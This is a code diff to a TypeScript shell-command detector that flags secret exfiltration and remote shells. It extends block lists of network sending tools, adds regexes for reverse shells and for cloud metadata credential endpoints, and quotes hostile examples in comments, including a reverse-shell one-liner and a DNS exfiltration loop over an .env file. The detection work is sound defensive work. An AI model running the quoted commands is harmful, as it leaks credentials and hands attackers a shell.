@@ -21,7 +21,7 @@ const READERS = set(
 const SENDERS = set(
   "curl wget http https xh httpie nc ncat netcat socat telnet ssh scp sftp ftp lftp rsync mail mailx mutt sendmail swaks msmtp nslookup dig host drill ping " +
     "aws gsutil gcloud az rclone s3cmd s5cmd mc gh glab pastebinit ix termbin croc wormhole magic-wormhole transfer slack twilio kcat invoke-webrequest invoke-restmethod iwr irm " +
-    "tftp rcp ncftpput logger lpr lp mosquitto_pub kafka-console-producer ntfy gotify apprise telegram-send slackcat transfer.sh gofile filebin onionshare-cli ffsend kubectl oc openssl huggingface-cli wandb dx nats mosquitto_pub redis-cli",
+    "tftp rcp ncftpput logger lpr lp mosquitto_pub kafka-console-producer ntfy gotify apprise telegram-send slackcat aria2c ipfs transfer.sh gofile filebin onionshare-cli ffsend kubectl oc openssl huggingface-cli wandb dx nats mosquitto_pub redis-cli",
 );
 /** Of those, what they do with words that names no sending. */
 const SENDING: Readonly<Record<string, RegExp>> = {
@@ -67,6 +67,7 @@ const PRINTS: readonly (readonly [RegExp, RegExp])[] = [
   [/^heroku$/, /^(?:config|auth:token)\b/],
   [/^doppler$/, /^secrets\b/],
   [/^(?:sops|age|gpg)$/, /^(?:-d|--decrypt|decrypt|--export-secret-keys)/],
+  [/^vercel$/, /^env pull\b/],
   [/^npm$/, /^(?:config get .*_authToken|token list)/],
 ];
 /** Programs that send requests to the addresses among their words. */
@@ -93,7 +94,8 @@ export const detectSecrets: Detector = (subject) => {
     const source =
       sourceOf(invocation, subject) ?? foundBy(invocation, finder) ?? remadeFrom(invocation, made);
     sources.push(source);
-    if (source?.isFile) for (const path of writtenBy(invocation)) made.set(path, source.what);
+    if (source?.isFile || source?.reads)
+      for (const path of writtenBy(invocation)) made.set(path, source.what);
   }
   const found: Finding[] = [];
   const first = sources.find((source) => source !== undefined);
@@ -104,6 +106,8 @@ export const detectSecrets: Detector = (subject) => {
       ([name, words]) => name === invocation.name && invocation.args.some(({ text }) => words.test(text)),
     );
     if (key) found.push(stop(RULE, commandLine(invocation), "it destroys a key, or gives one access"));
+    else if (givesShell(invocation) || isCodeShell(codeOf(invocation)))
+      found.push(stop(RULE, commandLine(invocation), "it gives another machine a shell here"));
     else if (isServed(invocation, source, subject))
       found.push(stop(RULE, commandLine(invocation), "it shows keys or a whole home folder to whoever asks"));
     else if (sent !== undefined) found.push(stop(RULE, commandLine(invocation), sent));
@@ -133,17 +137,19 @@ function foundBy({ via, args }: Invocation, source: Source | undefined): Source 
 }
 
 const COPIERS =
-  /^(?:cp|mv|ln|install|rsync|tar|gtar|bsdtar|zip|7z|7za|gpg|age|openssl|base64|gzip|bzip2|xz|zstd|dd|ditto)$/;
+  /^(?:cp|mv|ln|install|rsync|tar|gtar|bsdtar|zip|7z|7za|gpg|age|openssl|base64|gzip|bzip2|xz|zstd|dd|ditto|vercel)$/;
 
 /** The files that a command makes of what it reads. */
 function writtenBy({ name, args, redirections }: Invocation): string[] {
-  const written = redirections.map(({ target }) => target.text);
-  if (!COPIERS.test(name)) return written;
   const words = args.map(({ text }) => text);
+  const written = [
+    ...redirections.map(({ target }) => target.text),
+    ...words.filter((_, at) => /^(?:-o|-out|--output)$/.test(words[at - 1] ?? "")),
+  ];
+  if (!COPIERS.test(name)) return written;
   // An archive's name stands in front, a copy's at the end, another one's behind `-o`.
   const archive = words.find((text) => /\.(?:tar|t[gbx]z|zip|7z|gz|bz2|xz|zst|gpg|age|enc|b64)$/.test(text));
-  const output = words.find((_, at) => /^(?:-o|-out|--output|-f)$/.test(words[at - 1] ?? ""));
-  return [...written, ...[archive, output, words.at(-1)].filter((text) => text !== undefined)];
+  return [...written, ...[archive, words.at(-1)].filter((text) => text !== undefined)];
 }
 
 function remadeFrom(
@@ -196,6 +202,31 @@ function detectAccess({ changes }: Subject): Finding[] {
   return added ? [stop(RULE, added.by ?? added.path, "it lets whoever has a key log in here")] : [];
 }
 
+/** Where clouds give a machine its credentials. */
+const METADATA =
+  /(?:169\.254\.169\.254|169\.254\.170\.2|100\.100\.100\.200|metadata\.google\.internal|\[fd00:ec2::254\]).{0,200}(?:credential|token|identity)/i;
+const SHELLS = /^(?:bash|sh|zsh|dash|ksh|fish|ash)$/;
+
+/** `bash -i >& /dev/tcp/…`, `nc -e /bin/sh …`: somebody else's terminal here. */
+function givesShell({ name, args, redirections }: Invocation): boolean {
+  const words = args.map(({ text }) => text);
+  if (SHELLS.test(name)) return redirections.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target.text));
+  if (/^(?:nc|ncat|netcat)$/.test(name))
+    return words.some((word) => /^(?:-[a-zA-Z]*[ec]|--exec|--sh-exec|--lua-exec)$/.test(word));
+  if (name === "socat")
+    return (
+      words.some((word) => /^(?:exec|system):/i.test(word)) &&
+      words.some((word) => /^(?:tcp|openssl|udp|ssl)/i.test(word))
+    );
+  return false;
+}
+
+function isCodeShell(code: string | undefined): boolean {
+  return code !== undefined && CODE_SHELL.test(code) && /\bsocket\b|\bnet\b|IO::Socket|TCPSocket/i.test(code);
+}
+
+const CODE_SHELL = /\bdup2\s*\(|\bpty\.spawn|\bspawn\s*\(\s*["'](?:\/bin\/)?(?:ba)?sh["']/;
+
 interface Source {
   what: string;
   /** Its content comes out of it, and is not only named. */
@@ -212,6 +243,8 @@ function sourceOf(invocation: Invocation, subject: Subject): Source | undefined 
   const line = words.join(" ");
   if (name === "history" && words.every((word) => /^\d*$/.test(word)))
     return { what: "the commands that were typed", reads: true, isFile: false };
+  if (WEB.test(name) && METADATA.test(line))
+    return { what: "the machine's own credentials", reads: true, isFile: false };
   if (PRINTS.some(([program, verbs]) => program.test(name) && verbs.test(line)))
     return { what: "a token or a secret", reads: true, isFile: false };
   const path =
@@ -284,6 +317,8 @@ function sentBy(
       )
     : undefined;
   if (token) return `it sends ${token.variable} to ${token.host}, whose token it is not`;
+  if (/^(?:nc|ncat|netcat|socat)$/.test(name) && input?.type === "text" && SECRET_VARIABLE.test(input.text))
+    return "it sends what a variable holds that is called after a secret";
   if (own && code !== undefined && CODE_SENDS.test(code)) return why(own);
   if (own && redirections.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target.text))) return why(own);
   if (
@@ -297,19 +332,19 @@ function sentBy(
   if (!first) return undefined;
   const isFed = (input?.type === "pipe" || input?.type === "text") && readsInput(invocation);
   const request = requestOf(invocation);
-  const words = request
-    ? [
-        ...request.bodies,
-        ...args.filter(({ text }) => /^https?:/.test(text)),
-        ...(first.isFile ? request.headers : []),
-      ]
-    : args;
-  const isFilled = words.some(({ text, known, dynamic }) => dynamic || (!known && text.includes("$(")));
+  // A token that a program prints often belongs into a header.
+  const words =
+    request && !first.isFile
+      ? [...request.bodies, ...args.filter(({ text }) => /^https?:/.test(text))]
+      : args;
+  const isFilled = words.some(({ text, known, dynamic }) => dynamic || (!known && text.includes("(…)")));
   // `for l in $(base64 .env); do dig $l.example.com; done`: what asks for a name says it to whoever answers.
   const isAsked = ASKS_NAMES.test(name) && args.some(({ text, known }) => !known && text.includes("$"));
   return isFed || isFilled || isAsked ? why(first) : undefined;
 }
 
+const SECRET_VARIABLE =
+  /\$\{?[A-Z0-9_]{0,40}(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|PRIVATE_KEY|ACCESS_KEY|DATABASE_URL|_DSN)/;
 const ASKS_NAMES = /^(?:dig|nslookup|host|drill|ping|getent)$/;
 
 function isSending(name: string, args: readonly ShellWord[]): boolean {
